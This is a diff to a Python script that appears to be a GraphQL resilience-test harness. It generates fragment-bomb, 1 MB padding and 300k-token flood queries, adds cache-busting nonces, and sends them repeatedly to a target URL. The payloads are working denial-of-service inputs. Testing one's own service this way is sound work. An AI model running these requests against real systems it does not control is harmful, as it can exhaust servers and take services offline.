@@ -11,6 +11,7 @@ import contextlib
 import json
 import time
 from collections import Counter, defaultdict
+from collections.abc import Callable
 from dataclasses import dataclass, field
 
 import httpx
@@ -22,35 +23,37 @@ TOKENS = 300_000
 FRAGMENTS = 40
 
 
-def fragment_bomb() -> str:
+def fragment_bomb(nonce: int) -> bytes:
     """F0 selects `me`; each F_i spreads F_(i-1) twice: 2^40 fields if expanded naively."""
     fragments = ["fragment F0 on Query { me { username } }"]
     fragments += [
         f"fragment F{i} on Query {{ ...F{i - 1} ...F{i - 1} }}" for i in range(1, FRAGMENTS + 1)
     ]
-    return f"query {{ ...F{FRAGMENTS} }}\n" + "\n".join(fragments)
+    query = f"query {{ ...F{FRAGMENTS} }} # {nonce}\n" + "\n".join(fragments)
+    return json.dumps({"query": query}).encode()
 
 
-def padded_body() -> bytes:
+def padded_body(nonce: int) -> bytes:
     """A small query padded with spaces to exactly BODY_BYTES of JSON."""
-    empty = json.dumps({"query": "query { me { username } }"}).encode()
-    query = "query { me { username } }" + " " * (BODY_BYTES - len(empty))
-    body = json.dumps({"query": query}).encode()
+    small = f"query {{ me {{ username }} }} # {nonce}\n"
+    padding = BODY_BYTES - len(json.dumps({"query": small}).encode())
+    body = json.dumps({"query": small + " " * padding}).encode()
     assert len(body) == BODY_BYTES
     return body
 
 
-def token_flood() -> bytes:
+def token_flood(nonce: int) -> bytes:
     """A query of TOKENS tokens (selections of `me`)."""
     selections = "me " * (TOKENS - 3)  # `query`, `{` and `}` are the other three
-    return json.dumps({"query": f"query {{ {selections}}}"}).encode()
+    return json.dumps({"query": f"# {nonce}\nquery {{ {selections}}}"}).encode()
 
 
-ATTACKS = {
-    "fragment bomb": json.dumps({"query": fragment_bomb()}).encode(),
-    "1 MB body": padded_body(),
-    "300k tokens": token_flood(),
+ATTACKS: dict[str, Callable[[int], bytes]] = {
+    "fragment bomb": fragment_bomb,
+    "1 MB body": padded_body,
+    "300k tokens": token_flood,
 }
+"""Each attack's body; a different nonce (in a comment) each time, so no cache answers it."""
 
 
 @dataclass
@@ -82,7 +85,11 @@ class Attacker:
         async with httpx.AsyncClient(base_url=url, timeout=60.0) as client:
             sent: list[asyncio.Task[None]] = []
             while not stop.is_set():
-                sent += [asyncio.create_task(self.send(client, n, b)) for n, b in ATTACKS.items()]
+                nonce = len(sent)
+                sent += [
+                    asyncio.create_task(self.send(client, name, attack(nonce)))
+                    for name, attack in ATTACKS.items()
+                ]
                 with contextlib.suppress(TimeoutError):
                     await asyncio.wait_for(stop.wait(), ATTACK_EVERY)
             await asyncio.gather(*sent)
